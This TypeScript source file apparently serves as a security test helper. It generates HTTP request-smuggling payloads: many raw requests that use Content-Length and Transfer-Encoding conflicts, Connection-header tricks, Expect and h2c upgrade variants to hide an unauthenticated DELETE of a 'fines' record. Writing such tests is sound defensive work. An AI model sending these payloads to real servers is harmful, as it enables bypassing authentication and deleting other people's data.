/** Bytes that are to be read as a request of its own, ended by the headers of whoever comes next. */
const hidden = (fineId: string): string => `DELETE /api/fines/${fineId} HTTP/1.1\r\nHost: h\r\nX-Ignore: `;

/** Requests without any token that hide another one, by every way that is known. */
export function smugglings(fineId: string): string[] {
  const body = hidden(fineId);
  const length = `Content-Length: ${body.length}`;
  const chunks = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
  const chunked = 'Transfer-Encoding: chunked';
  const of = (method: string, headers: string[], content: string): string =>
    [`${method} /api/fines/${fineId} HTTP/1.1`, 'Host: h', ...headers, '', content].join('\r\n');
  return ['GET', 'OPTIONS', 'TRACE', 'DELETE', 'PUT', 'POST'].flatMap((method) => [
    of(method, [length, 'Connection: content-length'], body),
    of(method, [length, 'Connection: keep-alive, Content-Length, x'], body),
    of(method, [chunked, 'Connection: transfer-encoding'], chunks),
    of(method, [length], body),
    of(method, [chunked], chunks),
    of(method, ['Content-Length: 5', chunked], `0\r\n\r\n${body}`),
    of(method, [chunked, 'Content-Length: 4'], chunks),
    of(method, ['Content-Length: 0', length], body),
    of(method, [length, 'Expect: 100-continue'], body),
    of(method, [length, 'Upgrade: h2c', 'Connection: upgrade'], body),
  ]);
}
